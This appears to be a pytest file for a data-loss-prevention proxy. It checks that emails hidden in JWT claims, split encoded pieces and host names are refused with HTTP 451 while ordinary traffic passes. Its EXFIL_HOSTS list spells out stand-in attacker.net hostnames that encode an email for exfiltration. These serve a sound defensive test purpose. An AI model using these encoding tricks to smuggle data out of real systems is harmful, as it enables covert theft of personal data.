"""Data hidden where the first decoders did not look: a JWT's claims, an encoded value cut into
short pieces sent as siblings, the host name (and a CONNECT target). Through the real proxy
process to a recording upstream: each is refused (451, nothing forwarded); ordinary tokens,
short parameters and host names pass."""

from __future__ import annotations

import base64
import json
import socket
import uuid
from pathlib import Path

import pytest
import requests

from lacuna.model import FrozenDict
from lacuna.proxy import bodies

EMAIL = "ana.lopez@example.com"


def _b64url(data: object) -> str:
    raw = json.dumps(data).encode() if not isinstance(data, bytes) else data
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


HEADER = _b64url({"alg": "HS256", "typ": "JWT"})
SIGNATURE = _b64url(bytes(range(7, 39)))
PII_JWT = f"{HEADER}.{_b64url({'sub': 'u-1', 'email': EMAIL, 'name': 'Ana Lopez'})}.{SIGNATURE}"
CLAIMS = {"sub": "8f14e45fceea167a5a36dedd4bea2543", "iat": 1700000000, "exp": 1700003600,
          "iss": "https://auth.example.com"}
PLAIN_JWT = f"{HEADER}.{_b64url(CLAIMS)}.{SIGNATURE}"
# a user id in the shape of a US licence number (a letter and 8 digits): an id, not PII
USER_JWT = f"{HEADER}.{_b64url({**CLAIMS, 'sub': 'u00000012'})}.{SIGNATURE}"


def _send(env, method: str = "GET", query: str = "", body: bytes | None = None,
          headers: dict[str, str] | None = None, path: str = "") -> tuple[requests.Response, list]:
    path = path or f"/hidden/{uuid.uuid4().hex[:8]}"
    r = requests.request(method, f"http://127.0.0.1:{env.http.port}{path}{query}", data=body,
                         headers=headers or {}, proxies={"http": env.url, "https": env.url},
                         timeout=120)
    return r, env.http.got(path)


def test_a_jwts_claims_are_read(proxy_env):
    for headers, query in [({"authorization": f"Bearer {PII_JWT}"}, ""),
                           ({"cookie": f"theme=dark; session={PII_JWT}"}, ""),
                           ({}, f"?t={PII_JWT}")]:
        r, got = _send(proxy_env, headers=headers, query=query)
        assert r.status_code == 451, (headers, query)
        assert got == []
        assert "email" in r.text  # the claim, found where it was sent
    for headers, query in [({"authorization": f"Bearer {PLAIN_JWT}"}, ""),
                           ({"cookie": f"theme=dark; session={PLAIN_JWT}"}, ""),
                           ({}, f"?t={PLAIN_JWT}"),
                           ({"authorization": f"Bearer {USER_JWT}"}, "")]:
        r, got = _send(proxy_env, headers=headers, query=query)
        assert (r.status_code, len(got)) == (200, 1), r.text
        assert got[0].headers.get("authorization") == headers.get("authorization")


def test_a_jwt_past_the_inspected_start_is_decoded_in_the_scan():
    tokens = bodies.decoded_tokens(["x", PII_JWT, PLAIN_JWT])
    assert EMAIL in tokens
    assert "8f14e45fceea167a5a36dedd4bea2543" in tokens


def _pieces(text: str, size: int) -> list[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


def test_an_encoded_value_cut_into_short_pieces_is_joined(proxy_env):
    encoded = base64.b64encode(EMAIL.encode()).decode()  # 28 characters
    cut = _pieces(encoded, 4)  # each shorter than the 12 a value needs to be decoded alone
    alone = [base64.b64encode(p.encode()).decode() for p in _pieces(EMAIL, 2)]  # padded
    hexed = [p.encode().hex() for p in _pieces(EMAIL, 5)]
    odd = _pieces(base64.urlsafe_b64encode(EMAIL.encode()).decode().rstrip("="), 5)
    for pieces in (cut, alone, hexed, odd):
        query = "?" + "&".join(f"p{n}={p}" for n, p in enumerate(pieces))
        r, got = _send(proxy_env, query=query + "&lang=en&page=2")
        assert r.status_code == 451, pieces
        assert got == []
    form = "&".join(f"k{n}={requests.utils.quote(p)}" for n, p in enumerate(alone)).encode()
    shaped = [(form, {"content-type": "application/x-www-form-urlencoded"}),
              (json.dumps({"e": alone}).encode(), {"content-type": "application/json"}),
              (json.dumps(dict(enumerate(cut))).encode(), {"content-type": "application/json"}),
              (None, {"cookie": "; ".join(f"c{n}={p}" for n, p in enumerate(hexed))}),
              (None, {f"x-p{n}": p for n, p in enumerate(cut)})]
    for body, headers in shaped:
        r, got = _send(proxy_env, "POST" if body else "GET", body=body, headers=headers)
        assert r.status_code == 451, (body, headers)
        assert got == []
    r, got = _send(proxy_env, path="/hidden/" + "/".join(cut))
    assert r.status_code == 451
    assert got == []


BENIGN_QUERIES = [
    "?q=weather+berlin&lang=en&page=2&sort=asc",
    "?a=abcd&b=1234&c=test&d=YWJj&v=2&limit=50&offset=100",
    "?id=0f8fad5b-d9cb-469f-a165-70867728950e&rev=9f86d081&etag=33a64df5",
    "?sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08&n=3",
    "?utm_source=news&utm_medium=email&utm_campaign=spring_sale&ref=home",
    "?x=1&y=2&z=3&w=4&fields=name,price&expand=items",
    "?id=Lk3mN7pR2rS8tV4wX&size=k10",  # a Meteor id (not a VIN), a size (not ICD-10 K10)
]


def test_short_parameters_ids_and_words_pass(proxy_env):
    for query in BENIGN_QUERIES:
        assert not [k for k in bodies.read_query(query[1:]) if "(joined)" in k], query
        r, got = _send(proxy_env, query=query)
        assert (r.status_code, len(got)) == (200, 1), (query, r.text)
    headers = {"cookie": "_gid=GA1.2.98765.17; theme=dark; lang=en; sid=YWJj; a=1; b=2",
               "x-request-id": str(uuid.uuid4()), "if-none-match": '"33a64df551425fcc"'}
    r, got = _send(proxy_env, headers=headers)
    assert (r.status_code, len(got)) == (200, 1), r.text
    body = json.dumps({"status": "ok", "tags": ["red", "blue", "green"], "code": "EU"}).encode()
    r, got = _send(proxy_env, "POST", body=body, headers={"content-type": "application/json"})
    assert (r.status_code, len(got)) == (200, 1), r.text
    assert got[0].body == body


def test_a_vin_and_a_diagnosis_code_are_still_found(proxy_env):
    for query in ("?v=1M8GDM9AXKP042788", "?dx=E11.9"):
        r, got = _send(proxy_env, query=query)
        assert r.status_code == 451, query
        assert got == []


EXFIL_HOSTS = [
    "ana.lopez.at.example.com.attacker.net",  # an e-mail spelled out
    EMAIL.encode().hex() + ".attacker.net",
    base64.b32encode(EMAIL.encode()).decode().rstrip("=").lower() + ".attacker.net",
    base64.urlsafe_b64encode(EMAIL.encode()).decode().rstrip("=") + ".attacker.net",
    ".".join(_pieces(EMAIL.encode().hex(), 10)) + ".attacker.net",  # split over labels
]
ORDINARY_HOSTS = [
    "cdn-1a2b3c.example.com", "ec2-54-123-45-67.eu-west-1.compute.amazonaws.com",
    "d1a2b3c4d5e6f7.cloudfront.net", "my-bucket-2024.s3.eu-central-1.amazonaws.com",
    "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6.r2.cloudflarestorage.com", "o123456.ingest.sentry.io",
    "prod-db-replica-2.cluster-ro-c9akciq32.us-east-1.rds.amazonaws.com",
    "1234567890abcdef.execute-api.eu-west-1.amazonaws.com", "www.at.example.com",
    "mail.at.gov.at", "xn--bcher-kva.example", "myapp-3f9a2c1e.herokuapp.com", "127.0.0.1",
]


def test_data_in_the_host_name_is_refused_before_it_is_resolved(proxy_env):
    for host in (h for h in EXFIL_HOSTS if h == h.lower()):  # (requests lower-cases a host)
        # refused before a lookup: unrefused, the proxy would resolve the name (a 502 here)
        r = requests.get(f"http://{host}/x", proxies={"http": proxy_env.url}, timeout=120)
        assert r.status_code == 451, host
        assert "(host)" in r.text  # where it was found


def _connect(env, target: str) -> bytes:
    host, port = env.url.rsplit("/", 1)[1].split(":")
    with socket.create_connection((host, int(port))) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\n".encode())
        s.settimeout(60)
        return s.recv(65536)


def test_a_connect_target_that_carries_data_is_refused(proxy_env):
    for host in EXFIL_HOSTS[1:3]:
        answer = _connect(proxy_env, f"{host}:443")
        assert answer.startswith(b"HTTP/1.1 451"), answer[:80]
    answer = _connect(proxy_env, "cdn-1a2b3c.example.com:443")
    assert answer.startswith(b"HTTP/1.1 200"), answer[:80]


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory, proxy_yaml) -> object:
    from lacuna.config import load_config
    from lacuna.governor import Governor
    from lacuna.proxy.gate import Gate

    root: Path = tmp_path_factory.mktemp("proxy-hidden")
    return Gate(Governor(load_config(proxy_yaml(root, "{fingerprints: false}"))))


def test_ordinary_host_names_pass(gate):
    from lacuna.proxy.gate import OutboundRequest

    for host in ORDINARY_HOSTS:
        assert not [k for k in bodies.read_host(host) if "(decoded)" in k], host
        request = OutboundRequest(method="GET", url=f"https://{host}/app.js",
                                  headers=FrozenDict({"accept": "*/*"}))
        assert gate.check(request).forward, host
        assert gate.host_refusal(request) is None, host
    for host in EXFIL_HOSTS:
        request = OutboundRequest(method="GET", url=f"https://{host}/")
        assert not gate.check(request).forward, host
        assert gate.host_refusal(request) is not None, host
